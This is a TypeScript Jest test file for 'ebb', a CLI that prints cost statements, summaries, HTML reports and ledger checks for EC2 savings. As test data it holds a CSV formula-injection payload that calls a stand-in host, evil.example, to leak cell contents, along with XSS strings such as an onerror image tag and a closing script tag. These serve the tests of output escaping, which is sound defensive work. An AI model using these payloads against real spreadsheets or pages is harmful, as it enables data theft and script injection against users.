import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { statement } from '../../shared/ledger/statement.ts';
import type { LedgerRow } from '../../shared/model/ledger.ts';
import { instant } from '../../shared/model/time.ts';
import { box, change, scope } from '../report/plans.ts';
import { meter, settled, weekRows } from '../report/week.ts';
import { type Deployment, deployment } from '../support/deployment.ts';
import { clockwork } from './account.ts';
import { writeFolders } from './folders.ts';
import { ebb, isOneLine, type Ran } from './shell.ts';

const folder = mkdtempSync(join(tmpdir(), 'ebb-money-'));
const { config } = writeFolders(folder, clockwork());
const WEEK = ['--from', '2025-05-12', '--to', '2025-05-18'];
const file = (name: string) => join(folder, name);

/** Names that somebody wrote to do harm. */
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const written: LedgerRow[] = [
  ...weekRows.map(opener),
  ...settled(
    change({ id: 'chg-evil', resource: box(9, '<img src=x onerror=alert(1)>'), policy: FORMULA, owner: '</script><b>' }),
    instant('2025-05-15T17:00:00Z'),
    'done',
  ),
  ...meter('mtr-evil', box(9, '<img src=x onerror=alert(1)>'), instant('2025-05-15T17:00:00Z'), instant('2025-05-16T05:00:00Z'), {
    class: 'schedule',
    policy: FORMULA,
    owner: '</script><b>',
    changeId: 'chg-evil',
  }),
];

/** Each evening's meter names the stop that opened it, as in a ledger that is whole. */
function opener(row: LedgerRow): LedgerRow {
  const day = row.kind === 'meter-opened' ? /^mtr-s(\d)$/.exec(row.meterId)?.[1] : undefined;
  return row.kind === 'meter-opened' && day !== undefined ? { ...row, changeId: `chg-stop-${day}` } : row;
}

let there: Deployment;
const asked = (args: readonly string[], environment = {}): Promise<Ran> =>
  ebb([...args, '--endpoint-url', there.url, '--config', config], environment);

beforeAll(async () => {
  there = await deployment(scope.account, {
    ledger: 'ebbtide-dev-LedgerTable-1A2B3C',
    memory: 'ebbtide-dev-MemoryTable-4D5E6F',
    bucket: 'ebbtide-dev-pagesbucket-7g8h',
  });
  for (const row of written) await there.ledger.append(row);
});
afterAll(async () => {
  await there.close();
  rmSync(folder, { recursive: true });
});

describe('ebb statement', () => {
  test('finds the tables of the stage and prints the fold of the very rows', async () => {
    const { code, out, err } = await asked(['statement', ...WEEK, '--json']);
    expect([code, err]).toEqual([0, '']);
    const told = JSON.parse(out);
    // The zone of these folders is UTC, so the days are the ledger's own.
    const expected = statement(written, { start: instant('2025-05-12T00:00:00Z'), end: instant('2025-05-19T00:00:00Z') }, told.at);
    expect(told).toEqual(JSON.parse(JSON.stringify(expected)));
    expect(expected.total.meters).toBeGreaterThan(7);
  });

  test('names the tables it was told to read before those of the stage', async () => {
    const { code, out } = await asked(['statement', ...WEEK, '--json'], {
      EBB_LEDGER_TABLE: there.names.memory,
      EBB_MEMORY_TABLE: there.names.memory,
    });
    expect([code, JSON.parse(out).total.meters]).toEqual([0, 0]);
  });

  test('tells figures, a line for each policy, and what they rest on', async () => {
    const { code, out } = await asked(['statement', ...WEEK]);
    expect(code).toBe(0);
    // Four expected: 24 h with three of them, 4 h with nine. 24 × 1 − 4 × 5 = 4 h at $0.107.
    expect(out).toMatch(/^Statement · 12 May – 18 May 2025 · account 123456789012\n/);
    expect(out).toMatch(/^ {2}web +\$0\.43 +\$0\.43 +4 h +0 h +2 +2 B$/m);
    expect(out).toMatch(/^ {2}dev-test +\$0\.00 +\$5\.21 /m);
    expect(out).toContain('Prices: list price of 2025-04-04 (table).');
  });

  test('is a spreadsheet that no name turns into a formula', async () => {
    const { code, out } = await asked(['statement', ...WEEK, '--by', 'policy', '--csv']);
    const [head, ...lines] = out.trimEnd().split('\r\n');
    expect([code, head?.split(',').slice(0, 5)]).toEqual([0, ['policy', 'from', 'to', 'low_usd', 'high_usd']]);
    expect(lines.find(line => line.includes('HYPERLINK'))).toMatch(/^"'=HYPERLINK\(""http/);
    expect(lines.find(line => line.startsWith('web,'))).toMatch(
      /^web,2025-05-12T00:00:00Z,2025-05-19T00:00:00Z,0\.428,0\.428,0\.428,0,4,0,0,2,0,2,0,0$/,
    );
  });

  test('tells instances apart by id and name, in both forms', async () => {
    const { out } = await asked(['statement', ...WEEK, '--by', 'resource', '--csv']);
    const [head, ...lines] = out.trimEnd().split('\r\n');
    expect(head).toMatch(/^resource,name,account,region,from,/);
    expect(lines).toContainEqual(expect.stringMatching(/^i-00000000000000001,payroll-test,123456789012,eu-west-1,2025-05-12T00:00:00Z,/));
    const { out: text } = await asked(['statement', ...WEEK, '--by', 'resource']);
    expect(text).toMatch(/^ {2}payroll-test \(i-00000000000000001\) eu-west-1 +\$0\.00 +\$5\.14 /m);
  });

  test('an empty ledger is said plainly', async () => {
    const { code, out } = await asked(['statement', '--from', '2024-01-01', '--to', '2024-01-07']);
    expect(code).toBe(0);
    expect(out).toContain('No meter ran in this window');
    expect(out).not.toContain('$0.00');
  });
});

test('what cannot be answered is refused in a line, with a remedy', async () => {
  const cases: [RegExp, readonly string[]][] = [
    [/--from 2999-01-01: it is .*no account of the future/, ['statement', '--from', '2999-01-01']],
    [
      /--from 2025-05-12 is not before --to 2025-05-11; --to names the last day/,
      ['statement', '--from', '2025-05-12', '--to', '2025-05-11'],
    ],
    [/--at 2999-01-01T00:00:00Z: it is .*no account of the future/, ['summary', '--at', '2999-01-01T00:00:00Z']],
    [/more than five years before/, ['report', '--from', '2001-01-01']],
    [/--json and --csv are two answers/, ['statement', ...WEEK, '--json', '--csv']],
    [/cannot be written \(ENOENT\); name a file in a folder that is there/, ['report', ...WEEK, '--out', file('nowhere/page.html')]],
  ];
  for (const [line, args] of cases) {
    const ran = await asked(args);
    expect({ args, ...ran, isOneLine: isOneLine(ran) }).toMatchObject({ code: 2, err: expect.stringMatching(line), isOneLine: true });
  }
  const nowhere = await asked(['statement', ...WEEK], { EBB_LEDGER_TABLE: 'nowhere', EBB_MEMORY_TABLE: 'nowhere' });
  expect(nowhere).toMatchObject({ code: 2, err: expect.stringContaining('are EBB_LEDGER_TABLE and EBB_MEMORY_TABLE tables of') });
  for (const args of [
    ['statement', '--from', 'May'],
    ['statement', '--to', '2025-02-30'],
    ['statement', '--by', 'colour'],
    ['summary', '--format', 'pdf'],
  ]) {
    expect({ args, ...(await asked(args)) }).toMatchObject({ code: 2, out: '' });
  }
  const elsewhere = await deployment(scope.account, { ledger: 'somebody', memory: 'else' });
  const ran = await ebb(['statement', '--endpoint-url', elsewhere.url, '--config', config]);
  await elsewhere.close();
  expect(ran).toMatchObject({ code: 2, err: expect.stringMatching(/no table ebbtide-dev-LedgerTable-… in eu-west-1; deploy first/) });
});

describe('ebb summary', () => {
  const when = ['--at', '2025-05-19T09:00:00Z'];
  test('tells the last week as text, as Slack takes it, and as the page', async () => {
    const [text, slack, html] = await Promise.all(
      ['text', 'slack-json', 'html'].map(format => asked(['summary', '--format', format, ...when])),
    );
    expect([text?.code, slack?.code, html?.code]).toEqual([0, 0, 0]);
    expect(text?.out).toContain('EC2 savings · 12 May – 18 May 2025');
    expect(JSON.stringify(JSON.parse(slack?.out ?? ''))).toContain('12 May – 18 May 2025');
    expect(html?.out).toMatch(/^<!doctype html>/);
  });
});

test('ebb report writes one file, in which nothing of a name is markup', async () => {
  const { code, out } = await asked(['report', ...WEEK, '--out', file('week.html')]);
  expect(code).toBe(0);
  expect(out).toMatch(/^Wrote .*week\.html \(7 days, \d+ actions, \d+ KB\)\.\n$/);
  const html = readFileSync(file('week.html'), 'utf8');
  expect(html).not.toMatch(/<img|<b>/);
  expect(html.match(/<\/script>/g)).toHaveLength(2);
});

test('ebb report --upload also keeps it in the bucket of the stage; where there is none nothing is written', async () => {
  const { code, out } = await asked(['report', ...WEEK, '--out', file('kept.html'), '--upload']);
  const place = 'ebbtide-dev-pagesbucket-7g8h/reports/ebbtide-2025-05-12-to-2025-05-18.html';
  expect([code, out.trimEnd().split('\n').at(-1)]).toEqual([0, `Kept as s3://${place}.`]);
  expect([...there.objects.keys()]).toEqual([`/${place}`]);
  expect(there.objects.get(`/${place}`)).toContain(readFileSync(file('kept.html'), 'utf8'));

  const bare = await deployment(scope.account, { ledger: 'ebbtide-dev-LedgerTable-1', memory: 'ebbtide-dev-MemoryTable-1' });
  const ran = await ebb(['report', '--out', file('none.html'), '--upload', '--endpoint-url', bare.url, '--config', config]);
  await bare.close();
  expect({ ...ran, isThere: existsSync(file('none.html')) }).toMatchObject({
    code: 2,
    err: expect.stringMatching(/no bucket ebbtide-dev-pagesbucket-…; deploy first/),
    isThere: false,
  });
});

describe('ebb ledger verify', () => {
  test('a whole ledger passes', async () => {
    const { code, out } = await asked(['ledger', 'verify', ...WEEK]);
    expect({ code, out }).toMatchObject({
      code: 0,
      out: expect.stringMatching(/Nothing is missing and nothing counts twice in 12 May – 18 May 2025/),
    });
  });

  test('a stop without a meter and a meter that counts twice are found, one line each, and the exit code says so', async () => {
    const broken = await deployment(scope.account, { ledger: 'ebbtide-dev-LedgerTable-1', memory: 'ebbtide-dev-MemoryTable-1' });
    const evening = instant('2025-05-13T17:00:00Z');
    const twice = (id: string) => meter(id, box(3), evening, instant('2025-05-14T05:00:00Z'), { class: 'schedule', changeId: `chg-${id}` });
    const rows = [...settled(change({ id: 'chg-lost', resource: box(4) }), evening, 'done'), ...twice('mtr-1'), ...twice('mtr-2')];
    for (const row of rows) await broken.ledger.append(row);
    const args = ['ledger', 'verify', ...WEEK, '--endpoint-url', broken.url, '--config', config];
    const [text, json] = [await ebb(args), await ebb([...args, '--json'])];
    await broken.close();
    expect([text.code, json.code]).toEqual([1, 1]);
    expect(text.out).toMatch(/^ {2}! .*was stopped by chg-lost .*, and no meter tells of it$/m);
    expect(text.out).toMatch(/^ {2}! .*meters mtr-\d and mtr-\d count the same hours/m);
    expect(JSON.parse(json.out).scopes[0].findings.map((f: { code: string }) => f.code)).toEqual(
      expect.arrayContaining(['no-meter', 'overlap']),
    );
  });
});
